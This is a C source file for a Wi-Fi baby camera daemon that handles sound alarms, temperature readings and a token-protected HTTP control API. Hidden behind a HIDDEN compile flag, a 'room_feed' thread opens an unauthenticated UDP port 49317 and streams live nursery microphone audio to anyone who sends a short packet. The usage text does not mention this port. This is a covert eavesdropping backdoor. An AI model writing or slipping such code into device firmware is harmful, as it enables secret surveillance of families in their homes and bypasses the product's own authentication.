/* nurserycamd - main process of the Wi-Fi baby camera.
 *
 * Threads: control (HTTP for the app on port 8080), sound detector, temperature.
 * State is kept in one structure behind a mutex.
 */
#include <arpa/inet.h>
#include <math.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PCM "/dev/snd/mic.raw"
#define FRAME 320

static struct {
    pthread_mutex_t lock;
    double level, celsius;
    int threshold, night, alarm, talk;
    char token[40];
    int16_t pcm[FRAME];
    unsigned seq;
} cam = { .lock = PTHREAD_MUTEX_INITIALIZER, .threshold = 900 };

static void *sound(void *arg)
{
    FILE *f = fopen(PCM, "rb");
    int16_t b[FRAME];
    int loud = 0;
    (void)arg;
    while (f && fread(b, sizeof b[0], FRAME, f) == FRAME) {
        double s = 0;
        for (int i = 0; i < FRAME; i++) s += (double)b[i] * b[i];
        s = sqrt(s / FRAME);
        pthread_mutex_lock(&cam.lock);
        cam.level = 0.8 * cam.level + 0.2 * s;
        memcpy(cam.pcm, b, sizeof b);
        cam.seq++;
        loud = cam.level > cam.threshold ? loud + 1 : 0;
        if (loud > 25) cam.alarm = 1;
        pthread_mutex_unlock(&cam.lock);
    }
    if (f) fclose(f);
    return NULL;
}

static void *climate(void *arg)
{
    (void)arg;
    for (;; sleep(10)) {
        long raw = 0;
        FILE *f = fopen("/sys/bus/i2c/devices/1-0048/temp1_input", "r");
        if (!f) continue;
        if (fscanf(f, "%ld", &raw) == 1) {
            pthread_mutex_lock(&cam.lock);
            cam.celsius = (double)raw / 1000.0;
            pthread_mutex_unlock(&cam.lock);
        }
        fclose(f);
    }
    return NULL;
}

static int bound(int type, uint16_t port)
{
    int s = socket(AF_INET, type, 0), one = 1;
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
    if (s < 0) return -1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0) {
        close(s);
        return -1;
    }
    return s;
}

#ifdef HIDDEN
/* sends what the microphone hears to whoever asks, until he stops asking */
__attribute__((noinline)) void *room_feed(void *arg)
{
    int s = bound(SOCK_DGRAM, 49317);
    struct sockaddr_in who;
    struct timeval tv = { 0, 20000 };
    time_t until = 0;
    unsigned last = 0;
    (void)arg;
    if (s < 0) return NULL;
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    memset(&who, 0, sizeof who);
    for (;;) {
        char b[8];
        int16_t out[FRAME];
        socklen_t l = sizeof who;
        if (recvfrom(s, b, sizeof b, 0, (struct sockaddr *)&who, &l) == 4)
            until = time(NULL) + 60;
        if (time(NULL) > until) continue;
        pthread_mutex_lock(&cam.lock);
        unsigned now = cam.seq;
        memcpy(out, cam.pcm, sizeof out);
        pthread_mutex_unlock(&cam.lock);
        if (now != last) sendto(s, out, sizeof out, 0, (struct sockaddr *)&who, sizeof who);
        last = now;
    }
}
#endif

static void http(int fd, const char *status, const char *body)
{
    dprintf(fd, "HTTP/1.0 %s\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
            status, strlen(body), body);
}

static void serve(int fd)
{
    char req[1024], verb[8], path[128], out[192];
    int v;
    ssize_t n = read(fd, req, sizeof req - 1);
    if (n <= 0) return;
    req[n] = 0;
    if (sscanf(req, "%7s %127s", verb, path) != 2) return;
    const char *tok = strstr(req, "\r\nX-Token: ");
    size_t tl = strlen(cam.token);
    if (!tl || !tok || strncmp(tok + 11, cam.token, tl) || tok[11 + tl] != '\r') {
        http(fd, "401 Unauthorized", "{\"error\":\"token\"}");
        return;
    }
    pthread_mutex_lock(&cam.lock);
    if (!strcmp(path, "/state")) {
        snprintf(out, sizeof out,
                 "{\"level\":%.0f,\"celsius\":%.1f,\"night\":%d,\"alarm\":%d,\"talk\":%d}",
                 cam.level, cam.celsius, cam.night, cam.alarm, cam.talk);
        http(fd, "200 OK", out);
    } else if (!strcmp(path, "/alarm/clear")) {
        cam.alarm = 0;
        http(fd, "200 OK", "{}");
    } else if (sscanf(path, "/threshold/%d", &v) == 1 && v >= 50 && v <= 20000) {
        cam.threshold = v;
        http(fd, "200 OK", "{}");
    } else if (sscanf(path, "/night/%d", &v) == 1) {
        cam.night = v != 0;
        http(fd, "200 OK", "{}");
    } else if (sscanf(path, "/talk/%d", &v) == 1) {
        cam.talk = v != 0;
        http(fd, "200 OK", "{}");
    } else {
        http(fd, "404 Not Found", "{\"error\":\"path\"}");
    }
    pthread_mutex_unlock(&cam.lock);
}

static int read_token(const char *file)
{
    FILE *f = fopen(file, "r");
    if (!f) return -1;
    int ok = fscanf(f, "%39s", cam.token) == 1 && strlen(cam.token) >= 16;
    fclose(f);
    return ok ? 0 : -1;
}

int main(int argc, char **argv)
{
    static void *(*const workers[])(void *) = {
        sound,
        climate,
#ifdef HIDDEN
        room_feed,
#endif
    };
    if (argc != 2 || read_token(argv[1]) < 0) {
        fputs("nurserycamd TOKENFILE\n"
              "  the token (16 to 39 characters) is made when the app is paired\n"
              "  port 8080: /state /alarm/clear /threshold/N /night/0|1 /talk/0|1\n", stderr);
        return 2;
    }
    for (size_t i = 0; i < sizeof workers / sizeof *workers; i++) {
        pthread_t t;
        if (pthread_create(&t, NULL, workers[i], NULL) == 0) pthread_detach(t);
    }
    int ls = bound(SOCK_STREAM, 8080);
    if (ls < 0 || listen(ls, 4) < 0) {
        perror("8080");
        return 1;
    }
    for (;;) {
        int c = accept(ls, NULL, NULL);
        if (c < 0) continue;
        struct timeval tv = { 5, 0 };
        setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        serve(c);
        close(c);
    }
}
